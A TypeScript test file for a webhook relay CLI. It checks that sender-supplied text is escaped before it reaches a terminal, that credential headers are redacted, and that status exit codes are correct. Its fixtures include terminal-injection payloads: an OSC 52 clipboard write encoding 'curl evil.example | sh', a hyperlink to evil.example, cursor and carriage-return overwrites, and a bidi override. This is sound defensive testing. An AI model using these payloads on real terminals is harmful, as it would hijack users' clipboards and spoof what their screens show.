// What the CLI prints of what others wrote (issue 32, items 8 and 11): `messages`, `messages show` (text
// and --json), `status` and the agent's log printed a sender's body, path and headers and an app's or the
// relay's error text raw — an OSC 52 clipboard write, a CR line overwrite, an OSC 8 link, a CSI sequence
// reached the user's terminal — and showed Authorization, Cookie and API-key headers in clear. Now each
// is escaped (visible, inert) and each credential redacted; terminalOutput, the CLI's last pass, keeps
// JSON valid. And `status`'s exit code for paused, gateway down and a stalled lane (STATUS_EXIT).
import { describe, expect, it } from "vitest";
import type { AgentStatusAnswer } from "../../local-agent/agent-status.ts";
import { agentStatusFixture } from "./inspector-server.ts";
import { STATUS_EXIT, statusExitCode, statusText } from "../../local-agent/cli/cli-status.ts";
import { terminalBlock, terminalOutput } from "../../local-agent/cli/terminal-text.ts";
import { createLogger } from "../../local-agent/logger.ts";
import { liveLogText } from "../../local-agent/relay/live-log.ts";
import { messageDetail, messagesTable, shownRedacted } from "../../local-agent/relay/messages.ts";
import type { ShownMessage } from "../../local-agent/relay/messages.ts";
import { gatewayLogger } from "../../openclaw-plugin/relay-service.ts";
import { REDACTED_VALUE } from "../../protocol/index.ts";
import { standinReceivedText } from "../../scripts/start-lines.ts";
import type { QueueItem } from "../../protocol/index.ts";

const NOW = Date.parse("2026-12-01T12:00:00Z");
const OSC52 = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007";
const OSC8 = "\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\";
const CSI = "\u001b[2K\u001b[1A";
const C1_CSI = "\u009b31m";
const CR = "\rOK ";
const BIDI = "\u202eevil";
/** Anything a terminal acts on. */
const ACTING = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

function item(over: Partial<QueueItem> = {}): QueueItem {
  return {
    id: 7, state: "dead", kind: "hook", subpath: `sources/shop${CSI}`, content_type: "application/json", size: 40, received_at: NOW - 60_000, expires_at: NOW + 86_400_000,
    sender: "source:shop", msg_id: null, type: null, attempts: 3, reason: `the app answered 500: ${OSC8}${CR}${C1_CSI}`, last_status: 500, dead_at: NOW - 1000, replay_of: null, ...over,
  };
}

function shown(): ShownMessage {
  return {
    message: item(),
    body: JSON.stringify({ text: `hi${OSC52}`, raw: `${CR}${BIDI}` }),
    encoding: "utf8",
    headers: { "x-shop-topic": `orders/create${OSC8}`, authorization: "Bearer sk_live_123" },
    request: {
      method: "POST",
      tail: `/hooks?x=${CSI}`,
      headers: [["authorization", "Bearer sk_live_123"], ["cookie", "session=abc"], ["x-api-key", "key-456"], ["x-shop-topic", `orders/create${OSC52}`], ["stripe-signature", "t=1,v1=ab"]],
    },
    forward: "http://127.0.0.1:3000/webhooks",
  };
}

/** The inspector tests' standalone agent, connecting through a relay error, with a gateway error and a queue: text a sender or an app wrote in each. */
function statusAnswer(delivery: Partial<AgentStatusAnswer["delivery"]> = {}): AgentStatusAnswer {
  const base = agentStatusFixture(NOW, "http://relay.test", {
    counted_since: NOW - 3_600_000, delivered: 12, last_error: { id: 7, message: `the gateway answered 500: ${CSI}${CR}`, at: NOW - 5000 }, queued: 3, in_flight: 1, cursor: 41, ...delivery,
  });
  return {
    ...base,
    relay: { ...base.relay, state: "connecting", since: NOW - 60_000, error: `the relay answered 503: ${OSC8}` },
    api_port: 19791,
    started_at: NOW - 3_600_000,
    relay_queue: { queued: 3, sent: 1, dead: 0, oldest_waiting_at: NOW - 180_000 },
    relay_hub: null,
  };
}

describe("nothing a sender or an app wrote acts on the terminal", () => {
  it("messages: the sub-path and the app's error are escaped", () => {
    const text = messagesTable([item()], NOW);
    expect(text).not.toMatch(ACTING);
    expect(text).toContain("sources/shop\\x1b[2K\\x1b[1A");
    expect(text).toContain("\\x0dOK \\x9b31m");
  });

  it("messages show: body, headers, path, reason escaped; the body keeps its lines; credentials redacted", () => {
    const text = messageDetail(shown());
    expect(text).not.toMatch(ACTING);
    expect(text).toContain('"text": "hi\\u001b]52;c;');
    expect(text).toContain("\\x1b]8;;https://evil.example/");
    expect(text).toContain("POST …/hooks?x=\\x1b[2K");
    expect(text).not.toContain("sk_live_123");
    expect(text).not.toContain("session=abc");
    expect(text).not.toContain("key-456");
    expect(text).toMatch(/^authorization: +\[redacted\]$/m);
    expect(text).toMatch(/^cookie: +\[redacted\]$/m);
    // A provider's signature is no credential: the owner sees it.
    expect(text).toMatch(/^stripe-signature: +t=1,v1=ab$/m);
    const raw = messageDetail({ ...shown(), body: `line one\n${CR}${OSC52}\tend` });
    expect(raw).toContain("line one\n\\x0dOK \\x1b]52;c;");
    expect(raw).toContain("\tend");
  });

  it("messages show --json: credentials redacted, and through terminalOutput still JSON that means the same", () => {
    const redacted = shownRedacted(shown());
    expect(redacted.request?.headers.slice(0, 3)).toEqual([["authorization", REDACTED_VALUE], ["cookie", REDACTED_VALUE], ["x-api-key", REDACTED_VALUE]]);
    expect(redacted.headers?.authorization).toBe(REDACTED_VALUE);
    const printed = terminalOutput(JSON.stringify(redacted, null, 2));
    expect(printed).not.toMatch(ACTING);
    expect(JSON.parse(printed)).toEqual(redacted);
  });

  it("status: the relay's, the gateway's and an app's texts and a pause's reason are escaped, line by line", () => {
    const text = statusText(
      statusAnswer({ paused: `gateway answered 401${OSC52}`, gateway_down: { since: NOW - 1000, probes: 4, reason: `unreachable${CR}` }, forwards: [{ source: "shop", target: "http://127.0.0.1:3000/x", last_answer: null, failing_since: NOW - 1000, last_error: `the app answered 500: ${OSC8}`, delivered: 0, rejected: 0, next_try_at: null, head_failures: 1 }] }),
      4242,
      NOW,
    );
    expect(text).not.toMatch(ACTING);
    expect(text).toContain("PAUSED    gateway answered 401\\x1b]52;c;");
    expect(text).toContain("\\x0dOK");
  });

  it("the live log and the agent's log lines escape a path", () => {
    const live = liveLogText({ in_flight: 0, requests: [{ rid: "r1", at_ms: NOW - 1000, source: "shop", method: "POST", path: `/orders${OSC52}`, status: 200, outcome: "answered", code: null, duration_ms: 12 }] } as unknown as Parameters<typeof liveLogText>[0], NOW);
    expect(live).not.toMatch(ACTING);
    const lines: string[] = [];
    createLogger({ write: (line) => lines.push(line) }).info("delivered", { subpath: `sources/shop${OSC52}`, error: `x ${CSI}` });
    createLogger({ json: true, write: (line) => lines.push(line) }).info("delivered", { subpath: `a${C1_CSI}${BIDI}` });
    for (const line of lines) expect(line).not.toMatch(ACTING);
    expect((JSON.parse(lines[1]!) as { subpath: string }).subpath).toBe(`a${C1_CSI}${BIDI}`);
  });

  it("the plugin's lines in the gateway's log and npm start's stand-in lines escape what a sender wrote", () => {
    // A value with no space is not JSON-quoted by formatEvent: its ESC, C1 and bidi characters were written raw.
    const lines: string[] = [];
    const push = (line: string) => lines.push(line);
    const log = gatewayLogger({ info: push, warn: push, error: push } as unknown as Parameters<typeof gatewayLogger>[0]);
    log.info("delivered", { subpath: `sources/shop${OSC52}`, lane: `agentline:x${C1_CSI}${BIDI}` });
    log.error("rejected", { error: `the app answered 500: ${OSC8}` });
    expect(lines).toHaveLength(2);
    for (const line of lines) expect(line).not.toMatch(ACTING);
    expect(lines[0]).toContain("clawrelay: delivered subpath=sources/shop\\u001b]52;c;");
    const standin = standinReceivedText("/hooks", { subpath: `agent${CSI}`, idempotencyKey: `k${CR}`, body: Buffer.from(`{"message":"hi${C1_CSI}${BIDI}"}\n${OSC52}`) });
    expect(standin).not.toMatch(ACTING);
    expect(standin).toContain("[stand-in gateway] POST /hooks/agent\\u001b[2K");
  });

  it("terminalBlock keeps line feeds and tabs, nothing else", () => {
    expect(terminalBlock("a\n\tb\r\u0007\u009b")).toBe("a\n\tb\\x0d\\x07\\x9b");
  });
});

describe("clawrelay status exit codes", () => {
  const lane = { lane: "source:shop", waiting: 1, posting: 1, since: NOW - 60_000, next_try_at: NOW + 5000, last_error: "the app answered 500" };
  const down = { since: NOW - 1000, probes: 3, reason: "unreachable" };
  it("0 running and delivering; 3 paused; 4 gateway down; 5 a stalled lane; paused wins over down, down over a stalled lane", () => {
    expect(statusExitCode(statusAnswer())).toBe(STATUS_EXIT.running);
    expect(statusExitCode(statusAnswer({ paused: "401" }))).toBe(3);
    expect(statusExitCode(statusAnswer({ gateway_down: down }))).toBe(4);
    expect(statusExitCode(statusAnswer({ lanes: [lane] }))).toBe(5);
    expect(statusExitCode(statusAnswer({ forwards: [{ source: "shop", target: "http://127.0.0.1:3000/x", last_answer: null, failing_since: NOW - 1000, last_error: "refused", delivered: 0, rejected: 0, next_try_at: null, head_failures: 1 }] }))).toBe(5);
    expect(statusExitCode(statusAnswer({ paused: "401", gateway_down: down, lanes: [lane] }))).toBe(3);
    expect(statusExitCode(statusAnswer({ gateway_down: down, lanes: [lane] }))).toBe(4);
    // A lane merely waiting its turn (no failure) is not stalled.
    expect(statusExitCode(statusAnswer({ lanes: [{ ...lane, next_try_at: null, last_error: null }] }))).toBe(0);
    expect(new Set(Object.values(STATUS_EXIT)).size).toBe(4);
    expect(Object.values(STATUS_EXIT).filter((code: number) => code === 1 || code === 2)).toEqual([]);
  });
});
